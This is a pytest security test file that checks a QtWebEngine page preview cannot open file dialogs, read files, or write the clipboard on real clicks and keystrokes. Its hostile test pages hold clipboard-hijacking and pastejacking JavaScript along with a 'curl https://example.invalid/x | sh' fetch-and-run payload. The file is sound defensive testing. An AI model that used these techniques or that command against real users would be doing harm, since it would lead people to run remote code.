"""A real click or key in a previewed page must not open files or fill the clipboard.

The page is hostile; the person using it is not. Each test clicks or types
into a real QtWebEngine page with ``QTest`` (the engine's own widget, the
view's focus proxy, receives the events as it would from the window system)
and checks that no file dialog opened, the page read no file, and the
clipboard holds what it held or the person's own selection as plain text.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import QPoint, Qt, QTimer
from PySide6.QtGui import QClipboard, QGuiApplication
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QFileDialog

from tests.security.test_web_sandbox import SECRET, Listener, Probe

ROOT = hasattr(os, "geteuid") and os.geteuid() == 0
KNOWN = "the user's own clipboard text"
PAYLOAD = "curl https://example.invalid/x | sh"


def needs_engine(test: Any) -> Any:
    """Mark a test that runs pages in QtWebEngine (never as root)."""
    skip = pytest.mark.skipif(ROOT, reason="QtWebEngine cannot sandbox as root")
    return pytest.mark.webengine(skip(test))


@pytest.fixture
def probe(qtbot: Any, tmp_path: Path) -> Iterator[Probe]:
    root = tmp_path / "ws"
    root.mkdir()
    listener = Listener()
    harness = Probe(qtbot, root, listener)
    yield harness
    harness.close()
    listener.close()


@pytest.fixture
def clipboard() -> Iterator[list[str]]:
    """The clipboard set to a known text; the list collects every change."""
    board = QGuiApplication.clipboard()
    board.setText(KNOWN)
    changes: list[str] = []

    def on_changed(mode: QClipboard.Mode) -> None:
        changes.append(f"{mode.name}: {board.text(mode)!r}")

    board.changed.connect(on_changed)
    yield changes
    board.changed.disconnect(on_changed)


def _ready(probe: Probe, body: str) -> Any:
    """Open a page running ``body``, shown and waiting for input."""
    widget = probe.open(body)
    probe.results(widget)
    widget.window().activateWindow()
    probe.qtbot.waitExposed(widget)
    return widget


def _click(widget: Any, x: int, y: int) -> None:
    target = widget.view.focusProxy()
    QTest.mouseClick(
        target, Qt.MouseButton.LeftButton, Qt.KeyboardModifier.NoModifier, QPoint(x, y)
    )


def _results(probe: Probe, widget: Any) -> dict[str, str]:
    import json

    return json.loads(probe.evaluate(widget, "JSON.stringify(window.results)"))


def _wait_title(probe: Probe, widget: Any, title: str) -> None:
    probe.qtbot.waitUntil(lambda: widget.page.title() == title, timeout=10000)


class DialogWatcher:
    """Notes every dialog that appears and picks ``path`` in a file dialog.

    Picking the file (as a person would) shows what the page could read.
    """

    def __init__(self, path: Path) -> None:
        self.seen: list[str] = []
        self._path = path
        self._timer = QTimer()
        self._timer.setInterval(20)
        self._timer.timeout.connect(self._on_timer_timeout)
        self._timer.start()

    def _on_timer_timeout(self) -> None:
        for window in QApplication.topLevelWidgets():
            if isinstance(window, QFileDialog) and window.isVisible():
                self.seen.append(window.windowTitle() or "file dialog")
                window.selectFile(str(self._path))
                window.accept()

    def stop(self) -> None:
        self._timer.stop()


# -- 10: files -----------------------------------------------------------------------

CHOOSERS = """
const input = document.createElement("input");
input.type = "file";
input.style = "position: fixed; left: 0; top: 0; width: 50vw; height: 100vh;";
input.addEventListener("click", () => note("input_clicked", "yes"));
input.addEventListener("cancel", () => {
  note("input", "blocked cancelled");
  document.title = "chosen";
});
input.addEventListener("change", async () => {
  const file = input.files[0];
  note("input", "READ " + (file ? await file.text() : "nothing"));
  document.title = "chosen";
});
document.body.append(input);
document.addEventListener("click", (event) => {
  if (event.target === input) return;
  note("picker_clicked", "yes");
  let picked;
  try { picked = window.showOpenFilePicker(); }
  catch (error) { picked = Promise.reject(error); }
  picked.then(async ([handle]) => note("picker", "READ " + await (
                await handle.getFile()).text()),
              (error) => note("picker", "blocked " + error))
        .then(() => { document.title = "picked"; });
});
"""


@needs_engine
def test_a_click_on_a_file_input_opens_no_dialog_and_reads_nothing(probe):
    widget = _ready(probe, CHOOSERS)
    watcher = DialogWatcher(probe.root / "secret.txt")
    try:
        _click(widget, 40, 100)
        _wait_title(probe, widget, "chosen")
        width = widget.view.focusProxy().width()
        _click(widget, width - 40, 100)
        _wait_title(probe, widget, "picked")
    finally:
        watcher.stop()
    results = _results(probe, widget)
    assert results["input_clicked"] == "yes"
    assert results["picker_clicked"] == "yes"
    assert watcher.seen == []
    assert results["input"] == "blocked cancelled"
    assert results["picker"].startswith("blocked"), results
    assert not any(SECRET in value for value in results.values()), results


# -- 11: the clipboard ---------------------------------------------------------------

WRITERS = f"""
const bait = document.createElement("span");
bait.textContent = "{PAYLOAD}";
bait.style = "position: absolute; left: -9999px;";
document.body.append(bait);
document.addEventListener("copy", (event) => {{
  event.clipboardData.setData("text/plain", "{PAYLOAD}");
  event.preventDefault();
  note("copy_event", "ran");
}});
document.addEventListener("click", async () => {{
  getSelection().selectAllChildren(bait);
  for (const command of ["copy", "cut", "Copy"]) {{
    try {{ note("exec_" + command, document.execCommand(command)); }}
    catch (error) {{ note("exec_" + command, "blocked " + error); }}
  }}
  try {{
    delete Document.prototype.execCommand;
    Object.defineProperty(Document.prototype, "execCommand", {{value: () => true}});
    note("redefined", "READ");
  }} catch (error) {{ note("redefined", "blocked " + error); }}
  note("exec_again", document.execCommand("copy"));
  await attempt("write_text", navigator.clipboard.writeText("{PAYLOAD}"));
  await attempt("write", navigator.clipboard.write([new ClipboardItem(
    {{"text/plain": new Blob(["{PAYLOAD}"], {{type: "text/plain"}})}})]));
  document.title = "clicked";
}}, {{once: true}});
"""


@needs_engine
def test_a_click_does_not_let_the_page_write_the_clipboard(probe, clipboard):
    widget = _ready(probe, WRITERS)
    _click(widget, 20, 100)
    _wait_title(probe, widget, "clicked")
    results = _results(probe, widget)
    assert QGuiApplication.clipboard().text() == KNOWN
    assert clipboard == []
    for command in ("copy", "cut", "Copy"):
        assert results[f"exec_{command}"] == "false", results
    assert results["redefined"].startswith("blocked"), results
    assert results["exec_again"] == "false", results
    assert results["write_text"].startswith("blocked"), results
    assert results["write"].startswith("blocked"), results
    assert "copy_event" not in results, results


BYPASSES = f"""
const payload = "{PAYLOAD}";
if (window !== window.top) {{
  // A frame of the page's own making, with its own realm and document.
  document.addEventListener("copy", (event) => {{
    event.clipboardData.setData("text/plain", payload);
    event.preventDefault();
  }});
  document.addEventListener("click", () => {{
    parent.postMessage("frame copied " + document.execCommand("copy"), "*");
  }});
  parent.postMessage("frame ran", "*");
  return;
}}
window.addEventListener("message", (event) => {{
  note("frame", (window.results.frame || "") + event.data + "; ");
  if (String(event.data).startsWith("frame copied")) document.title = "frame clicked";
}});
const frame = document.createElement("iframe");
frame.srcdoc = '<body style="margin: 0; height: 100vh"><script src="probe.js">'
  + '</' + 'script>';
frame.style = "position: fixed; left: 0; top: 0; width: 100vw; height: 50vh;"
  + "border: 0;";
document.body.append(frame);
const blank = document.createElement("iframe");
document.body.append(blank);
await later(500);
document.addEventListener("click", async () => {{
  // A realm with an untouched execCommand.
  try {{
    const pristine = blank.contentWindow.Document.prototype.execCommand;
    note("blank_frame", pristine.call(document, "copy"));
  }} catch (error) {{ note("blank_frame", "blocked " + error); }}
  // A new document in the same window: listeners go, the prototype stays.
  document.open();
  document.write("<p id='fresh'>fresh</p>");
  document.close();
  document.addEventListener("copy", (event) => {{
    event.clipboardData.setData("text/plain", payload);
    event.preventDefault();
  }});
  getSelection().selectAllChildren(document.getElementById("fresh"));
  note("after_open", document.execCommand("copy"));
  document.title = "clicked";
}}, {{once: true}});
"""


@needs_engine
def test_frames_and_a_new_document_do_not_bring_back_clipboard_writes(probe, clipboard):
    widget = _ready(probe, BYPASSES)
    height = widget.view.focusProxy().height()
    _click(widget, 40, height // 4)  # on the page's frame
    _wait_title(probe, widget, "frame clicked")
    _click(widget, 40, height - 40)  # on the page itself
    _wait_title(probe, widget, "clicked")
    results = _results(probe, widget)
    assert QGuiApplication.clipboard().text() == KNOWN
    assert clipboard == []
    assert results["blank_frame"].startswith("blocked"), results
    assert results["after_open"] == "false", results
    assert results["frame"] == "frame ran; frame copied false; ", results


PASTEJACK = f"""
document.addEventListener("copy", (event) => {{
  event.clipboardData.setData("text/plain", "{PAYLOAD}");
  event.preventDefault();
  note("copy_event", "ran");
}});
document.addEventListener("cut", (event) => {{
  event.clipboardData.setData("text/plain", "{PAYLOAD}");
  event.preventDefault();
  note("cut_event", "ran");
}});
const words = document.createRange();
words.selectNodeContents(document.getElementById("p"));
const box = words.getBoundingClientRect();
note("words", JSON.stringify([box.left, box.right, box.top + box.height / 2]));
"""


@needs_engine
@pytest.mark.parametrize("key", [Qt.Key.Key_C, Qt.Key.Key_X])
def test_copy_keys_copy_the_selection_as_plain_text_not_what_the_page_says(
    probe, clipboard, key
):
    import json

    widget = _ready(probe, PASTEJACK)
    left, right, middle = json.loads(_results(probe, widget)["words"])
    target = widget.view.focusProxy()
    # The person selects the word by dragging over it.
    start, end = QPoint(int(left) - 2, int(middle)), QPoint(int(right) + 2, int(middle))
    no_key = Qt.KeyboardModifier.NoModifier
    QTest.mousePress(target, Qt.MouseButton.LeftButton, no_key, start)
    QTest.mouseMove(target, end)
    QTest.mouseRelease(target, Qt.MouseButton.LeftButton, no_key, end)
    probe.qtbot.waitUntil(lambda: widget.page.selectedText() == "hello")
    board = QGuiApplication.clipboard()
    with probe.qtbot.waitSignal(board.dataChanged, timeout=10000):
        QTest.keyClick(target, key, Qt.KeyboardModifier.ControlModifier)
    assert board.text() == "hello"
    assert board.mimeData().formats() == ["text/plain"]
    results = _results(probe, widget)
    assert "copy_event" not in results, results
    assert "cut_event" not in results, results
